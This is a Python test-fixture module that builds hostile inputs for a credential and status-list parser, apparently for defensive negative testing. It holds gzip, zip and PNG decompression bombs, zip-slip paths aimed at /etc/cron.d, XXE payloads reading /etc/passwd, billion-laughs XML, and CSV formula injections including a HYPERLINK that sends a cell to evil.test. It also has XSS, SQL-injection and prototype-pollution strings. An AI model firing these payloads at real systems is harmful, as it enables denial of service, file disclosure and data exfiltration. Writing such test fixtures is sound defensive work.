"""Files made to be refused: JSON, status lists, pictures, archives, XML, tables.

Named as the catalogue (``cases.yaml``) names them.
"""

import base64
import gzip
import io
import struct
import zipfile
import zlib


def b64u(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


# Status lists


def gz_bomb(mib=1024):
    stream = io.BytesIO()
    with gzip.GzipFile(fileobj=stream, mode="wb", compresslevel=9, mtime=0) as packed:
        for _ in range(mib):
            packed.write(bytes(1 << 20))
    return stream.getvalue()


def status_bomb(mib=1024):
    return "u" + b64u(gz_bomb(mib))


def status_encoded(nbits, setbits=(), *, msb=True):
    bits = bytearray(nbits // 8)
    for index in setbits:
        bits[index >> 3] |= (0x80 >> (index & 7)) if msb else (1 << (index & 7))
    return "u" + b64u(gzip.compress(bytes(bits), 9, mtime=0))


def status_short():
    return status_encoded(65_536)


def status_wrong_bit_order(i=1):
    return status_encoded(131_072, [i], msb=False)


def status_concat_gzip():
    return "u" + b64u(gzip.compress(bytes(8192)) + gzip.compress(bytes(8192)))


def status_truncated():
    return status_encoded(131_072)[:-10]


# Imports


def _chunk(kind, data):
    checksum = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)


def png_bomb(w=60_000, h=60_000):
    head = struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(1 << 20), 9)
    chunks = _chunk(b"IHDR", head) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def png_baked_many_chunks(n=1000):
    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    baked = _chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + zlib.compress(b"{" * 100)) * n
    rest = _chunk(b"IDAT", zlib.compress(b"\0\0")) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + baked + rest


def zip_bomb(mb=500):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("learners.csv", bytes(mb << 20))
    return stream.getvalue()


def zip_slip():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name in ("../../../../tmp/pwned", "/etc/cron.d/pwned", "C:\\x", "a/../../b", "..\\..\\x"):
            archive.writestr(name, "x")
    return stream.getvalue()


def xml_billion_laughs(n=10):
    entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, n))
    return f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "lol">{entities}]><l>&a{n - 1};</l>'


def xml_xxe():
    def with_entity(system):
        return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{system}">]><r>&x;</r>'

    include = (
        '<r xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include parse="text" href="file:///etc/passwd"/></r>'
    )
    parameter = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/e.dtd">%p;]>'
    return [
        ("file", with_entity("file:///etc/passwd")),
        ("http", with_entity("http://127.0.0.1:9/x")),
        ("param", f'<?xml version="1.0"?>{parameter}<r/>'),
        ("xinclude", include),
    ]


def csv_formula():
    return [
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil.test?"&A1,"x")',
        "＝1+1",
        "\ufeff=1+1",
        '"=1+1"',
    ]


def csv_weird():
    return [
        ("nul", b"name,email\nA\x00,b@c\n"),
        ("utf16", "name,email\nA,b@c\n".encode("utf-16")),
        ("latin1", "nom,email\nLéa,b@c\n".encode("latin-1")),
        ("bom", b"\xef\xbb\xbfname,email\nA,b@c\n"),
        ("unterminated_quote", b'name,email\n"A,b@c\n' + b"x" * 1_000_000),
        ("one_10MB_field", b"name\n" + b"x" * 10_000_000),
        ("ragged", b"a,b,c\n1,2\n1,2,3,4\n"),
        ("dup_header", b"name,name\nA,B\n"),
        ("cr_only", b"name\rA\r"),
        ("semicolon", b"name;email\nA;b@c\n"),
        ("empty", b""),
        ("header_only", b"name,email\n"),
    ]


# JSON


def json_edge():
    return [
        '{"a":1,"a":2}',
        "NaN",
        "1e400",
        '"\\ud800"',
        "9" * 5000,
        "[" * 100_000,
        "{" * 100_000,
        '{"a":1}{"b":2}',
        "\ufeff{}",
        '{"\\u0000":1}',
        '{"__proto__":{"x":1}}',
        "",
        "null",
        "[]",
        '"x"',
        "1",
        '{"a":1,}',
        "{'a':1}",
        "// c\n{}",
        '{"a":' + "1" * 4299 + "}",
    ]


def naughty_texts():
    """Texts that break careless programs; none of them is a formula (see ``csv_formula``)."""
    return [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "'; drop table holder; --",
        "{{7*7}} ${7*7} #{7*7} %s %n %x",
        "javascript:alert(1)",
        "\u202egpj.exe",
        "A" + "\u0300" * 400,
        "аpple (un а cyrillique)",
        "\u2028\u2029",
        "\u0000",
        "\x1b[31mrouge\x1b[0m",
        "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467",
        "ﷺ 田中さん مرحبا שלום",
        "../../etc/passwd",
        "null",
        "NaN",
        "-1",
        "1e1000",
        "~.~..~",
        "_:b0 <urn:x> .",
        "@id",
        "...",
        "_sd",
        "O'Brien-Ñandú d’Étampes",
    ]


def qr_deflate_bomb(megabytes: int = 100) -> str:
    """A code of another family, whose text unfolds to so many megabytes."""
    machine = zlib.compressobj(9)
    return (
        "VC1-Z:"
        + base64.urlsafe_b64encode(machine.compress(b"a" * (megabytes << 20)) + machine.flush()).decode()
    )
